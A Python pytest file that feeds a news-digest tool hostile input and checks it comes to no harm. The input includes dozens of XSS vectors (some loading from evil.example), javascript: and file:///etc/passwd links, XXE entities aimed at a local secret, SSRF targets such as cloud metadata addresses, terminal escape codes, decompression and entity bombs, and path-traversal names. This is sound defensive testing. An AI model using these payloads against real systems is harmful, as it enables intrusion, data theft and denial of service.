"""Hostile sources, end to end: what a feed, a page or a server does harm with never gets further than its source."""

from __future__ import annotations

import gzip
import json
import re
import sqlite3
import zlib
from collections.abc import Iterator
from contextlib import closing, suppress
from html import escape
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.cli.conftest import Office, Result, Terminal, edition, fingerprint, part, source
from tests.cli.conftest import parse as parse_mail
from tests.web_server import Answer, Names, WebServer, confine

NOW = "2026-11-22T09:00"
DATE = "Sat, 21 Nov 2026 09:30:00 +0800"

VECTORS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'//",
    '"><img src=//evil.example/pixel.gif>',
    "'\"--></style></title></textarea><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>点这里</a>",
    "<a href='java\tscript:alert(1)'>点这里</a>",
    "<a href='&#106;avascript:alert(1)'>点这里</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>点这里</a>",
    "<form action=//evil.example/><button>确定</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/y)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<object data=//evil.example/x.swf></object><embed src=//evil.example/x.swf>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "＜script＞alert(1)＜/script＞",
    "{{ 7 * 7 }}{% for x in [] %}{{ self.__init__ }}",
    "</td></tr></table></main><h1>系统通知</h1>",
    '" style="position:fixed;inset:0;background:url(//evil.example/z)" x="',
    "\u202e<img src=x onerror=alert(1)>\u202c",
)
"""What is put where words should stand: in titles, texts, names of authors and of sites."""

LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "http://user:secret@evil.example/",
    'https://evil.example/" onmouseover="alert(1)',
    "https://evil.example/'><script>alert(1)</script>",
    "mailto:a@example.cn?bcc=all@example.cn",
)

SUBJECTS = (
    "大桥通车",
    "水价听证",
    "医院开诊",
    "码头扩建",
    "学校迁址",
    "隧道贯通",
    "公园开放",
    "剧院首演",
    "机场改造",
    "书市开幕",
)
PLACES = ("岚川", "赫汀", "岚西", "鹿汀", "云泽", "寒宁", "灵东", "溪北")


def tell(number: int) -> tuple[str, str]:
    """The title and the text of a story of its own."""
    place, subject = PLACES[number % 8], SUBJECTS[number % 10]
    title = f"{place}第{number}批{subject}"
    text = (
        f"{place}市本周完成第{number}批{subject}的各项准备，投入{number * 7 + 3}万元。"
        f"负责人介绍，{subject}涉及{number + 11}个街道，由{PLACES[(number * 3 + 1) % 8]}的队伍承担。"
        f"居民代表在现场提出{number % 6 + 2}条意见，主管部门答应在{number % 20 + 5}天之内一一答复。"
    )
    return title, text


def item(title: str, link: str, text: str, author: str = "") -> str:
    """An <item> of a feed, escaped as a publisher's program does it."""
    return (
        f"<item><title>{escape(title)}</title><link>{escape(link)}</link><author>{escape(author)}</author>"
        f"<category>{escape(author)}</category><description>{escape(text)}</description><pubDate>{DATE}</pubDate></item>"
    )


def feed(*items: str, title: str = "岚川新闻") -> str:
    """An RSS feed of items."""
    channel = f"<channel><title>{escape(title)}</title>{''.join(items)}</channel>"
    return f"<?xml version='1.0' encoding='utf-8'?><rss version='2.0'>{channel}</rss>"


def page(title: str, text: str, head: str = "") -> str:
    """The page of an article."""
    return (
        f"<html><head><meta charset='utf-8'><title>{title}</title>{head}</head><body><h1>{title}</h1>"
        f"<div>{''.join(f'<p>{line}。</p>' for line in text.split('。') if line)}</div></body></html>"
    )


def table(web: WebServer, path: str, name: str, more: str = "", *, kind: str = "feed", host: str = "") -> str:
    """A table [[source]] that reads a path of a server of this machine."""
    private = "" if host else "allow_private = true\n"
    return (
        f'[[source]]\nname = {json.dumps(name)}\nkind = "{kind}"\nurl = "{web.url(path, host)}"\n'
        f"{private}delay = 0\nrobots = false\n{more}\n"
    )


@pytest.fixture
def names(monkeypatch: pytest.MonkeyPatch) -> Iterator[Names]:
    """A network that ends on this computer; at the end nothing may have tried to leave it."""
    confined = confine(monkeypatch)
    yield confined
    assert confined.refused == []


@pytest.fixture
def web(names: Names) -> Iterator[WebServer]:
    """The hostile server."""
    with WebServer() as server:
        yield server


@pytest.fixture
def other(names: Names) -> Iterator[WebServer]:
    """A second server, inside the house, that nobody may be led to."""
    with WebServer("127.0.0.9") as server:
        server.routes["/"] = page("内部系统", tell(99)[1])
        yield server


def mailed(office: Office, kind: str = "plain") -> str:
    """The last mail's text or HTML."""
    return part(parse_mail(office.smtp.received[-1]), kind)


def remains(office: Office) -> str:
    """All that a run leaves behind, as one text: names of files, their bytes, every value of the database, the mails.

    What is packed is unpacked as well.
    """
    kept = [str(path) for path in office.terminal.folder.rglob("*")]
    for path in office.data.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            kept += [data.decode("latin-1"), data.decode("utf-8", "replace")]
            with suppress(zlib.error):
                kept.append(zlib.decompress(data.split(b"\n", 2)[-1]).decode("utf-8", "replace"))
    kept += [value for row in cells(office) for value in row]
    for received in office.smtp.received:
        kept += [received.content.decode("latin-1"), *(part(parse_mail(received), kind) for kind in ("plain", "html"))]
    return "\n".join(kept)


def cells(office: Office) -> Iterator[list[str]]:
    """Every row of every table of the database, its values as text."""
    path = office.data / "digest.db"
    if not path.exists():
        return
    with closing(sqlite3.connect(path)) as database:
        tables = [name for (name,) in database.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        for name in tables:
            for row in database.execute(f'SELECT * FROM "{name}"'):
                yield [_as_text(value) for value in row]


def _as_text(value: object) -> str:
    if not isinstance(value, bytes):
        return str(value)
    with suppress(zlib.error):
        value = zlib.decompress(value)
    return value.decode("utf-8", "replace")


class Built(HTMLParser):
    """What a page is built of: its tags, each with the names of its attributes, its comments, its links."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[tuple[str, str]] = set()
        self.comments: set[str] = set()
        self.links: list[str] = []
        self.styles: set[str] = set()
        self.shown = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags |= {(tag, ""), *((tag, name) for name, _ in attrs)}
        for name, value in attrs:
            if name in ("href", "src", "action", "background", "poster", "srcset"):
                self.links.append(value or "")
            if name == "style":
                self.styles.update(part.partition(":")[0].strip() for part in (value or "").split(";"))
                assert "url(" not in (value or "")

    def handle_comment(self, data: str) -> None:
        self.comments.add(re.sub(r"\s+", " ", data))

    def handle_data(self, data: str) -> None:
        self.shown += data


# ---------------------------------------------------------------------------------------------------------- the reader


def publish(web: WebServer, *, hostile: bool) -> int:
    """A feed with whole articles, and one with pages: with a vector in every place, or harmless; returns how many."""
    count = len(VECTORS)
    whole, announced = [], []
    for number, vector in enumerate(VECTORS):
        bad = vector if hostile else "与市民"
        title, text = tell(number)
        link = LINKS[number % len(LINKS)] if hostile and number % 2 else f"/a/{number}.html"
        whole.append(item(f"{title}{bad}", link, f"<p>{text}{bad}</p><p>{bad}</p>", bad))
        title, text = tell(number + 100)
        head = (
            f"<meta name='ArticleTitle' content='{title}{escape(bad)}'><meta name='SiteName' content='{escape(bad)}'>"
            f"<meta name='author' content='{escape(bad)}'><meta name='ContentSource' content='{escape(bad)}'>"
        )
        web.routes[f"/b/{number}.html"] = page(f"{title}{escape(bad)}", f"{text}{bad}", head)
        announced.append(item(f"{title}{bad}", f"/b/{number}.html", "", bad))
    web.routes |= {"/whole": feed(*whole, title=VECTORS[0] if hostile else "岚川"), "/pages": feed(*announced)}
    return 2 * count


def build(office: Office, web: WebServer, *, hostile: bool) -> tuple[Built, str, Built]:
    """What the mail and the preview of such sources are built of, and the mail's text."""
    publish(web, hostile=hostile)
    office.configure(
        sources=table(web, "/whole", "甲<b>" if hostile else "甲", 'full_text = "never"') + table(web, "/pages", "乙"),
        editions=edition(more="items = 100"),
    )
    shown = office("preview", "--output", office.terminal.folder / "out")
    assert shown.code == 0, shown.err
    result = office("run")
    assert result.code == 0, result.err
    return Built(mailed(office, "html")), mailed(office), Built(Path(shown.out.strip()).read_text("utf-8"))


def test_a_hostile_mail_is_built_of_the_same_tags_as_a_harmless_one(office: Office, web: WebServer) -> None:
    """Scripts, forms, images and styles of a source are words at most; links lead to http, https or mailto."""
    bad, text, bad_page = build(office, web, hostile=True)
    office.data.rename(office.terminal.folder / "old")
    good, _, good_page = build(office, web, hostile=False)
    for hostile, harmless in ((bad, good), (bad_page, good_page)):
        assert hostile.tags <= harmless.tags
        assert {name for tag, name in hostile.tags if name.startswith("on")} == set()
        assert hostile.comments <= harmless.comments
        assert hostile.styles <= harmless.styles
        assert {link.partition(":")[0] for link in hostile.links if link[:1] != "#"} <= {"http", "https", "mailto"}
        assert not [link for link in hostile.links if "@" in urlsplit(link).netloc]
        assert "alert(1)" in hostile.shown  # some of it is shown, as words
    missing = [number for number in range(len(VECTORS)) for n in (number, number + 100) if tell(n)[0] not in text]
    assert missing == []


def test_what_is_invisible_or_turns_the_line_is_cleaned_away(office: Office, web: WebServer) -> None:
    """Characters that hide, or turn the direction of what follows, do not reach the mail."""
    title, text = tell(1)
    hidden = "\u202e\u2066\u200b\u200f\u2060\ufeff\U000e0041\u00ad"
    dirty = "".join(hidden[n % len(hidden)] + char for n, char in enumerate(title))
    web.routes |= {
        "/feed": feed(item(dirty, "/1.html", ""), item(f"{tell(2)[0]}{hidden}", "/2.html", f"<p>{tell(2)[1]}</p>")),
        "/1.html": page(dirty, hidden.join(text)),
        "/2.html": page(f"{tell(2)[0]}{hidden}", tell(2)[1]),
    }
    office.configure(sources=table(web, "/feed", "甲"))
    assert office("run").code == 0
    for kind in ("plain", "html"):
        assert title in mailed(office, kind)
        assert not set(hidden) & set(mailed(office, kind))
    assert not set(hidden) & set(str(parse_mail(office.smtp.received[-1])["Subject"]))


# ------------------------------------------------------------------------------------------------------- the machine


def test_files_of_this_machine_are_read_by_no_entity(office: Office, web: WebServer, other: WebServer) -> None:
    """External entities and DTDs in feeds, pages and OPML bring no local file and ask no server."""
    canary = "KANARIENVOGEL-9c1e"
    secret = office.terminal.write("secret.txt", f"{canary} 机密")
    dtd = other.url("/x.dtd")
    heads = (
        f'<!DOCTYPE r [<!ENTITY x SYSTEM "{secret.as_uri()}">]>',
        f'<!DOCTYPE r [<!ENTITY x SYSTEM "{secret}">]>',
        f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{dtd}"> %p; <!ENTITY x "1">]>',
        f'<!DOCTYPE r SYSTEM "{dtd}">',
        f'<?xml-stylesheet href="{dtd}"?>',
    )
    title, text = tell(3)
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret.as_uri()}" parse="text"/>'
    entry = item("@", "/1.html", f"<p>{text}</p>").replace("@", f"{title}&x;{include}")
    for number, head in enumerate(heads):
        xml = feed(entry).replace("?>", f"?>{head}", 1)
        web.routes |= {f"/feed{number}": xml, f"/page{number}": Answer(_xhtml(head, title, text, include).encode())}
        office.terminal.write(
            f"{number}.opml", f"<?xml version='1.0'?>{head}<opml><body><outline text='&x;'/></body></opml>"
        )
    web.routes["/1.html"] = page(title, text)
    office.configure(
        sources=source(office.news)
        + "".join(table(web, f"/feed{n}", f"甲{n}") + table(web, f"/page{n}", f"乙{n}", kind="page") for n in range(5))
    )
    said = [office("run"), office("preview", "--text"), office("sources", "check")]
    said += [office("sources", "import", f"{number}.opml") for number in range(len(heads))]
    said += [
        office("sources", "test", web.url(f"/{kind}{n}"), "--allow-private")
        for kind in ("feed", "page")
        for n in range(5)
    ]
    assert not [result for result in said if canary in result.out + result.err]
    assert canary not in remains(office).replace(str(secret), "")
    assert "岚川大桥通车" in mailed(office)
    assert other.log == []


def _xhtml(head: str, title: str, text: str, include: str) -> str:
    return (
        f"<?xml version='1.0' encoding='utf-8'?>{head}<html xmlns='http://www.w3.org/1999/xhtml'><head><title>{title}"
        f"</title></head><body><h1>{title}</h1><p>{text}&x;</p><p>{include}{text[:40]}</p></body></html>"
    )


@pytest.mark.parametrize("place", ["{path}", "file://{path}", "FILE:///{path}", "file://localhost{path}", "jar:{path}"])
def test_a_feed_is_no_file_of_this_machine(office: Office, web: WebServer, place: str) -> None:
    """A path or a file: address is refused where a feed's address is wanted: in the file, on the command line."""
    path = office.terminal.write("local.xml", feed(item("本机的秘密", "/1.html", tell(4)[1])))
    url = place.format(path=path)
    results = [office("sources", *words, url, "--allow-private") for words in (("add",), ("test",))]
    office.configure(sources=f'[[source]]\nname = "甲"\nkind = "feed"\nurl = "{url}"\n')
    results += [office("run"), office("preview", "--text")]
    assert [result.code in (1, 2, 3) for result in results] == [True] * 4
    assert not [result for result in results if "本机的秘密" in result.out + result.err]
    assert [result.code for result in results[2:]] == [3, 3]


def test_a_redirect_to_a_file_is_refused(office: Office, web: WebServer) -> None:
    """A server that redirects to a file of this machine is a source with trouble, and the file is not read."""
    path = office.terminal.write("local.xml", feed(item("本机的秘密", "/1.html", tell(4)[1])))
    web.routes["/feed"] = Answer(status=302, headers={"Location": path.as_uri()})
    office.configure(sources=source(office.news) + table(web, "/feed", "甲"))
    result = office("run")
    assert (result.code, "no http or https address" in result.err) == (4, True)
    assert "本机的秘密" not in remains(office).replace(path.read_text("utf-8"), "")


CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def test_a_terminal_obeys_no_source(terminal: Terminal, web: WebServer) -> None:
    """Escape codes in titles, texts, names, addresses and answers reach neither stdout nor stderr."""
    terminal.write_news("samples")
    assert terminal("init").code == 0
    codes, entity = "\x1b]0;pwned\x07\x1b[31m\u009b2J\x08\x7f\r", "&#27;[31m&#155;2J&#8;"
    title, text = tell(5)
    rows = [
        {"title": f"{tell(n)[0]}{codes}", "url": f"/j{n}.html", "date": "2026-11-21", "source": codes} for n in range(6)
    ]
    web.routes |= {
        "/feed": feed(item(f"{title}@", "/1.html", f"<p>{text}@</p>"), title="@岚川").replace("@", "\x1b[31m\u009b2J"),
        "/list.json": json.dumps({"data": rows}),
        "/1.html": page(
            f"{title}\x1b[31m", f"{text}\u009b2J。{tell(15)[1]}", "<meta name='author' content='\x1b[1m甲'>"
        ),
        "/2.html": page(
            f"{title}{entity}", f"{text}{entity}。{tell(15)[1]}", f"<meta name='SiteName' content='{entity}甲'>"
        ),
        "/away": Answer(status=302, headers={"Location": f"ftp://a/{codes[:-1]}"}),
        "/odd": Answer(raw=f"HTTP/1.1 418 {codes[:-1]}\r\n\r\n".encode()),
        "/block": f"<html><title>安全验证\x1b[31m</title><body>访问过于频繁，请输入验证码{entity}</body></html>",
    }
    private = "--allow-private", "--ignore-robots", "--now", NOW
    said = [terminal("sources", "add", web.url(path), *private) for path in ("/feed", "/list.json", "/2.html")]
    tables = zip(("away", "odd", "block", "feed"), "坏怪堵甲", strict=True)
    written = (
        (terminal.folder / "digest.toml").read_text("utf-8").replace("robots = false", "robots = false\ndelay = 0")
    )
    terminal.write("digest.toml", "\n".join((written, *(table(web, f"/{path}", name) for path, name in tables))))
    said += [
        terminal("sources", "test", web.url(path), "--source", "甲")
        for path in ("/feed", "/list.json", "/1.html", "/2.html")
    ]
    assert [result.code for result in said] == [0] * 7
    assert [title in result.out for result in (said[3], said[5], said[6])] == [True] * 3
    words = ("check",), ("list",), ("list", "--json"), ("export",)
    said += [terminal("sources", *more, "--now", NOW) for more in words]
    said += [terminal("preview", "--text", "--now", NOW), terminal("run", "--dry-run", "--now", NOW)]
    assert title in said[-2].out
    assert [name for name in "坏怪堵" if f"{name}: " not in said[-2].err] == []
    assert [_controls(result) for result in said] == [[]] * len(said)


def _controls(result: Result) -> list[str]:
    return CONTROLS.findall(result.out + result.err)


# ------------------------------------------------------------------------------------------------------- the secrets

LITERAL, VARIABLE, COOKIE, TOKEN = "canary-literal-11", "canary-variable-22", "canary-cookie-33", "canary-token-44"
SECRETS = (LITERAL, VARIABLE, COOKIE, TOKEN)


def guarded(web: WebServer, path: str, name: str, *, host: str = "") -> str:
    """A source with a secret in every place that can hold one."""
    more = (
        f'headers = {{ Authorization = "$NEWS_LOGIN", X-Api-Key = "{LITERAL}" }}\ncookies = {{ sid = "$NEWS_SID" }}\n'
    )
    return table(web, f"{path}?token={TOKEN}", name, more, host=host)


def test_secrets_of_a_source_are_told_to_its_own_host_only(
    office: Office, web: WebServer, other: WebServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """However a source fails, its headers, cookies and token stand in no output, mail, database or name of a file."""
    monkeypatch.setenv("NEWS_LOGIN", VARIABLE)
    monkeypatch.setenv("NEWS_SID", COOKIE)
    with WebServer("127.0.0.8") as gone:
        refused = guarded(gone, "/feed", "关")
    failures: dict[str, Answer | str] = {
        "500": Answer(b"oops", 500, headers={"Retry-After": "999"}),
        "401": Answer(b"who?", 401, headers={"WWW-Authenticate": "Basic"}),
        "slow": Answer(b"x", wait=3),
        "cut": Answer(raw=b"HTTP/1.1 200 OK\r\nContent-Length: 999\r\n\r\n<rss"),
        "no-http": Answer(raw=b"SSH-2.0-x\r\n\r\n"),
        "elsewhere": Answer(status=302, headers={"Location": other.url(f"/?token={TOKEN}")}),
        "circle": Answer(status=302, headers={"Location": f"/circle?token={TOKEN}"}),
        "file": Answer(status=302, headers={"Location": f"file:///x?token={TOKEN}"}),
        "block": "<html><title>安全验证</title><body>访问过于频繁，请输入验证码后继续访问</body></html>",
        "garbage": Answer(bytes(range(256))),
        "broken": "<rss><channel><item><title>半",
        "long": Answer(b"x" * 1_100_000),
    }
    web.routes |= {f"/{name}": answer for name, answer in failures.items()}
    tables = [guarded(web, f"/{name}", name) for name in failures]
    office.configure(
        top="[collect]\nseconds = 1\nmegabytes = 1\n", sources=source(office.news) + refused + "".join(tables)
    )
    said = [office("run"), office("sources", "check"), office("preview", "--text"), office("run", "--dry-run")]
    said += [office("sources", "test", web.url("/500"), "--source", name) for name in ("500", "关")]
    assert [result.code for result in said[:3]] == [4, 1, 4]
    for name in ("关", *failures):
        assert f"{name}: " in said[0].err
    everything = "\n".join(result.out + result.err for result in said) + remains(office)
    assert [secret for secret in SECRETS if secret in everything] == []
    sent = web.log[0].headers
    assert (sent["authorization"], sent["x-api-key"], sent["cookie"]) == (VARIABLE, LITERAL, f"sid={COOKIE}")
    assert other.log == []


def test_a_public_host_that_a_source_redirects_to_is_told_nothing(
    office: Office, web: WebServer, other: WebServer, names: Names, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Where a redirect leads to another host, that host gets no header and no cookie of the source."""
    monkeypatch.setenv("NEWS_LOGIN", VARIABLE)
    monkeypatch.setenv("NEWS_SID", COOKIE)
    home, abroad = names.serve("news.example", web), names.serve("cdn.example", other)
    title, text = tell(6)
    web.routes["/feed"] = Answer(status=302, headers={"Location": other.url("/feed", abroad)})
    other.routes |= {"/feed": feed(item(title, "/1.html", "")), "/1.html": page(title, text)}
    office.configure(sources=guarded(web, "/feed", "甲", host=home))
    assert office("run").code == 0
    assert title in mailed(office)
    assert other.paths() == ["/feed", "/1.html"]
    assert [
        name for seen in other.log for name in seen.headers if name in ("authorization", "x-api-key", "cookie")
    ] == []
    assert not [secret for seen in other.log for secret in SECRETS if secret in str(seen)]


def test_a_missing_secret_is_named_and_not_shown(
    office: Office, web: WebServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A source whose variable is not set fails with its name; the server is not asked without it."""
    monkeypatch.setenv("NEWS_SID", COOKIE)
    office.configure(sources=source(office.news) + guarded(web, "/feed", "甲"))
    result = office("run")
    assert (result.code, "NEWS_LOGIN" in result.err) == (4, True)
    assert COOKIE not in result.out + result.err
    assert web.log == []


# ------------------------------------------------------------------------------------------------------- the network


def test_a_feed_leads_nobody_into_the_house(office: Office, web: WebServer, other: WebServer, names: Names) -> None:
    """Entries that link to this machine or its network are announced at most; only the source's own place is asked."""
    port, decimal = other.port, int.from_bytes(bytes((127, 0, 0, 9)))
    inside = [
        f"http://127.0.0.9:{port}/",
        f"http://127.0.0.1:{port}/",
        f"http://{decimal}:{port}/",
        f"http://0x7f000009:{port}/",
        f"http://0177.0.0.011:{port}/",
        f"http://127.9:{port}/",
        f"http://[::1]:{port}/",
        f"http://[::ffff:127.0.0.9]:{port}/",
        f"http://[64:ff9b::7f00:9]:{port}/",
        f"http://localhost:{port}/",
        f"http://inside.example:{port}/",
        f"http://mixed.example:{port}/",
        f"http://１２７.0.0.9:{port}/",
        "http://169.254.169.254/latest/meta-data/",
        "http://100.100.100.200/latest/meta-data/",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "http://10.0.0.1/",
        "http://192.168.1.1/",
        "http://0.0.0.0/",
    ]
    names.table |= {
        "inside.example": ["127.0.0.9"],
        "mixed.example": ["20.127.0.9", "127.0.0.9"],
        "localhost": ["127.0.0.9"],
    }
    title, text = tell(7)
    items = [item(tell(n + 20)[0], link, "见正文") for n, link in enumerate(inside)]
    web.routes |= {"/feed": feed(*items, item(title, "/1.html", "见正文")), "/1.html": page(title, text)}
    office.configure(sources=table(web, "/feed", "甲"))
    result = office("run")
    assert result.code == 4
    assert "is a private address" in result.err
    assert title in mailed(office)
    assert other.log == []
    assert web.paths() == ["/feed", "/1.html"]
    assert set(names.reached) <= {"127.0.0.1"}


def test_a_public_name_redirects_nobody_into_the_house(
    office: Office, web: WebServer, other: WebServer, names: Names
) -> None:
    """A redirect of a list or of a page to a private address is refused, hop by hop; what is public goes on."""
    home = names.serve("news.example", web)
    names.table["inside.example"] = ["127.0.0.9"]
    targets = [
        other.url("/"),
        "http://10.0.0.1/",
        f"http://inside.example:{other.port}/",
        f"http://[::1]:{other.port}/",
    ]
    title, text = tell(8)
    items = [item(tell(n + 40)[0], f"/p{n}.html", "见正文") for n in range(len(targets))]
    web.routes |= {"/feed": feed(*items, item(title, "/1.html", "见正文")), "/1.html": page(title, text)}
    for number, target in enumerate(targets):
        web.routes |= {
            f"/p{number}.html": Answer(status=302, headers={"Location": f"/q{number}.html"}),
            f"/q{number}.html": Answer(status=301, headers={"Location": target}),
            f"/list{number}": Answer(status=307, headers={"Location": target}),
        }
    lists = "".join(table(web, f"/list{n}", f"坏{n}", host=home) for n in range(len(targets)))
    office.configure(sources=table(web, "/feed", "甲", host=home) + lists)
    result = office("run")
    assert result.code == 4
    for number in range(len(targets)):
        assert re.search(f"坏{number}: .*is a private address", result.err)
    assert title in mailed(office)
    assert other.log == []


def test_a_bomb_and_an_endless_answer_stop_nobody_else(office: Office, web: WebServer) -> None:
    """Each hostile source fails with a word of its own and within its time; the others are in the mail."""
    entities = "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    title, text = tell(9)
    bombs: dict[str, Answer | str] = {
        "zip": Answer(gzip.compress(b"\0" * 40_000_000, 1), headers={"Content-Encoding": "gzip"}),
        "zip-in-zip": Answer(
            gzip.compress(gzip.compress(b"\0" * 9_000_000)), headers={"Content-Encoding": "gzip, gzip"}
        ),
        "endless": Answer(b"<rss>" * 5_000, endless=True),
        "drip": Answer(b"<rss>" * 5_000, drip=0.05),
        "drip-headers": Answer(b"<rss>", drip_headers=0.05),
        "laughs": f'<!DOCTYPE r [<!ENTITY a "ha">{entities}]><rss><channel><title>&j;</title></channel></rss>',
        "deep": "<rss>" + "<a>" * 150_000,
        "many": feed(*[f"<item><title>{n}</title></item>" for n in range(20_000)]),
        "json": "[" * 100_000,
    }
    web.routes |= {f"/{name}": answer for name, answer in bombs.items()}
    web.routes |= {"/feed": feed(item(title, "/1.html", "见正文")), "/1.html": page(title, text)}
    tables = [table(web, f"/{name}", name, kind="json" if name == "json" else "feed") for name in bombs]
    office.configure(
        top="[collect]\nseconds = 1\nmegabytes = 1\n",
        sources="".join(tables) + table(web, "/feed", "好") + source(office.news),
    )
    result = office("run")
    assert result.code == 4
    for name in bombs:
        assert re.search(rf"(?m)^{name}: \S", result.err), name
    assert title in mailed(office)
    assert "岚川大桥通车" in mailed(office)


# --------------------------------------------------------------------------------------------------------- the files

NAMES = ("../../x", "..\\..\\x", "/etc/x", "CON", "nul.txt", "．．／x", "a" * 300, "%2e%2e%2fx")


@pytest.mark.parametrize("name", NAMES)
def test_a_name_leads_out_of_no_folder(office: Office, web: WebServer, name: str, tmp_path: Path) -> None:
    """A source or a title called like a path is a name; files are written in the data and output folders only."""
    title, text = tell(10)
    web.routes |= {
        "/feed": feed(item(f"{name}{title}", "/../../1.html", "见正文"), title=name),
        "/1.html": page(f"{name}{title}", text, f"<meta name='SiteName' content='{name}'>"),
    }
    office.configure(sources=table(web, "/feed", name) + source(office.news))
    before = set(fingerprint(tmp_path))
    assert [office(*words).code for words in (("preview", "--output", "out"), ("run",))] == [0, 0]
    office.configure(editions=edition(name=json.dumps(name, ensure_ascii=False)[1:-1]))
    refused = office("preview", "--output", "out")
    assert (refused.code, "takes only a-z" in refused.err) == (3, True)
    made = {Path(path).parts[1] for path in set(fingerprint(tmp_path)) - before}
    assert made == {"out", "data"}
    assert sorted(path.name for path in (office.terminal.folder / "out").iterdir()) == [
        "daily-2026-11-22.html",
        "daily-2026-11-22.txt",
    ]
